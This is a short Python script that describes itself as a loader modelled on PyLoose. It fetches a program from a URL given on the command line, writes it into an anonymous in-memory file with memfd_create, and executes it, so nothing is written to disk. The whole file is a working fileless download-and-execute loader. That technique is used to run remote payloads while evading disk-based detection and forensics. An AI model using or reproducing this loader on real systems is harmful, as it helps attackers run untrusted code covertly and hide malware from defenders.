# SPDX-License-Identifier: Apache-2.0
"""A loader in the manner of PyLoose: the program never touches the disk.

memfd.py URL NAME ARGUMENT…
"""
import os
import sys
import urllib.request

program = os.memfd_create(sys.argv[2], os.MFD_CLOEXEC)
os.write(program, urllib.request.urlopen(sys.argv[1]).read())
os.execve(program, sys.argv[2:], os.environ)
